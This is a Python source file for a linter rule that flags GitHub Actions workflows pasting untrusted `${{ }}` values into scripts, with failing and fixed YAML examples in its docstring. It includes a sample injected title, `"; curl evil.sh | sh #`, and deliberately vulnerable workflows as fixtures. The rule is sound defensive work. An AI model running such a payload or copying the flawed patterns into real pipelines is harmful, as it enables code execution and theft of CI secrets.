"""Hand foreign text to scripts by an environment variable, never by an expression.

GitHub pastes the value of `${{ … }}` into a script before the shell reads it. Whoever writes the value then writes code: a pull
request titled `"; curl evil.sh | sh #` runs that command, with the job's token and secrets. A variable is data: give the value
to the step by `env:` and use `"$NAME"` in the script. The same goes for the code that actions take as an input.

```yaml fails
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New: ${{ github.event.issue.title }}"  # finding
```

```yaml fixed
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: |
          echo "New: ${ISSUE_TITLE}"
```

The text is followed through environments, outputs, `needs` and matrices.

```yaml fails
on: pull_request_target
jobs:
  read:
    runs-on: ubuntu-latest
    outputs:
      branch: ${{ steps.it.outputs.branch }}
    steps:
      - id: it
        run: echo "branch=$GITHUB_HEAD_REF" >> "$GITHUB_OUTPUT"
  use:
    needs: read
    runs-on: ubuntu-latest
    env:
      BRANCH: ${{ needs.read.outputs.branch }}
    steps:
      - run: git push origin HEAD:refs/heads/${{ env.BRANCH }}  # finding
```

```yaml fixed
on: pull_request_target
jobs:
  read:
    runs-on: ubuntu-latest
    outputs:
      branch: ${{ steps.it.outputs.branch }}
    steps:
      - id: it
        run: echo "branch=$GITHUB_HEAD_REF" >> "$GITHUB_OUTPUT"
  use:
    needs: read
    runs-on: ubuntu-latest
    env:
      BRANCH: ${{ needs.read.outputs.branch }}
    steps:
      - run: git push origin HEAD:refs/heads/"${BRANCH}"
```

```yaml fails
on: discussion_comment
jobs:
  answer:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: |
            const body = `${{ github.event.comment.body }}`  # finding
```

What people with write access choose weighs less, as does what a caller passes to an action or a reusable workflow.

```yaml fails
on:
  workflow_dispatch:
    inputs:
      tag:
        type: string
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release '${{ inputs.tag }}'  # finding
      - run: ./upload ${{ github.ref_name }}  # finding
```

```yaml fails
# file: action.yml
inputs:
  version:
    description: What to install
runs:
  using: composite
  steps:
    - shell: bash
      run: ./install "${{ inputs.version }}"  # finding
```

Fine are values that cannot hold shell characters, or that are empty because no trigger brings them; booleans; JSON where JavaScript
takes a value.

```yaml passes
on:
  pull_request:
  workflow_dispatch:
    inputs:
      level:
        type: choice
        options: [low, high]
jobs:
  test:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        node: [20, 22]
    steps:
      - run: ./test ${{ matrix.node }} ${{ inputs.level }} ${{ github.event.pull_request.number }} ${{ github.sha }}
      - run: ./docs ${{ contains(github.event.pull_request.title, 'docs') && 'yes' || 'no' }}
      - run: ./close ${{ github.event.issue.title }}
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
      - uses: actions/github-script@v7
        with:
          script: |
            const title = ${{ toJSON(github.event.pull_request.title) }};
```

With `every`, any expression in a script is a note: a habit that leaves nothing to judge.

```yaml fails
# options: {every: true}
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make VERSION=${{ vars.VERSION }}  # finding
```
"""

import re
from collections.abc import Iterator
from typing import NamedTuple

from wflint.api import (
    Context,
    Expression,
    FileEdit,
    Finding,
    Fix,
    Level,
    Script,
    env_variables,
    rule,
    taint,
    tree,
)

_WHO = {
    "outsider": "anybody can write",
    "app": "an app writes",
    "writer": "people with write access choose",
    "caller": "the caller passes",
}
_LEVELS: dict[taint.Exposure, Level] = {
    "open": "error",
    "powerless": "warning",
    "gated": "warning",
    "closed": "note",
}
_READ = {"javascript": "process.env.NAME", "python": "os.environ['NAME']", "pwsh": "$env:NAME", "cmd": "%NAME%"}
_VALUE = re.compile(r"(?:[=(,:\[?|&{]|\b(?:return|await|of|in))\s*\Z")
_VALUE_END = re.compile(r"\s*(?:[;,.)\]}\[|&?:]|$)", re.MULTILINE)


class Options(NamedTuple):
    every: bool = False
    """Report, as a note, every expression in a script that is not the same in all runs."""


@rule(
    target=Script,
    level="error",
    tags=("security", "injection", "cwe-94", "owasp-cicd-sec-4", "scorecard-dangerous-workflow"),
    options=Options,
    security_severity=9.3,
)
def check(script: Script, context: Context[Options]) -> Iterator[Finding]:
    judged = [
        (expression, *grade)
        for expression in script.expressions
        if expression.reads and (grade := _judge(expression, script, context.options.every)) is not None
    ]
    if not judged:
        return
    moved = env_variables.hand_over(script, [expression for expression, _, _ in judged])
    for expression, level, found in judged:
        fix = None
        if moved is not None and any(edit.span == expression.place.span for edit in moved.edits):
            edits = tuple(FileEdit(script.document.name, edit) for edit in moved.edits)
            fix = Fix("Hand the script's expressions over by `env:`", edits, moved.safe)
        yield context.finding(
            expression,
            _message(expression, script, found),
            level=level,
            fix=fix,
            related=found.way if found is not None else (),
        )


def _judge(expression: Expression, script: Script, every: bool) -> tuple[Level, taint.Taint | None] | None:
    for found in taint.carried(expression):
        level = _level(found, script) if found.injectable else None
        if found.by == "caller" and _is_line(expression, script):
            level = "note"
        if level is not None and not _is_json_value(expression, script):
            return level, found
    return ("note", None) if every else None


def _level(found: taint.Taint, script: Script) -> Level | None:
    if found.by in ("writer", "app", "caller"):
        return "warning" if found.grade == "free" and found.sure else "note"
    if found.by != "outsider":
        return None
    if not found.sure:
        return "note"
    return _LEVELS[taint.exposure(found, script.step)]


def _is_line(expression: Expression, script: Script) -> bool:
    """Tell whether an expression is a line of its own: an input that is meant to be a command."""
    start, end = expression.span
    before, after = script.text[:start].rpartition("\n")[2], script.text[end:].partition("\n")[0]
    return not before.strip() and not after.strip()


def _is_json_value(expression: Expression, script: Script) -> bool:
    """Tell whether JavaScript or Python takes the expression as a literal: `const x = ${{ toJSON(…) }};`."""
    root = expression.tree
    if script.dialect not in ("javascript", "python") or not isinstance(root, tree.Call) or root.function != "tojson":
        return False
    start, end = expression.span
    return bool(_VALUE.search(script.text, max(0, start - 20), start) and _VALUE_END.match(script.text, end))


def _message(expression: Expression, script: Script, found: taint.Taint | None) -> str:
    if found is None:
        return f"`{_short(expression.text.strip())}` is pasted into this script before it runs; hand it over by `env:`"
    read = _READ.get(script.dialect, '"$NAME"')
    return (
        f"{_WHO[found.by]} `{_short(found.source)}`, and here its text becomes code;"
        f" hand it over by `env:` and use `{read}`"
    )


def _short(text: str) -> str:
    return text if len(text) <= 60 else f"{text[:57]}…"
